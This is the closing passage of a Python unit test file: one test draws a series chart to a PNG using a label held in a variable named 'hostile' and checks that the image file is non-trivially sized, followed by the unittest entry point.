            path = plots.series(os.path.join(folder, "series.png"), hostile, "ops/s", [(hostile, [0, 1], [1.0, 2.0])])
            self.assertGreater(os.path.getsize(path), 1000)


if __name__ == "__main__":
    unittest.main()
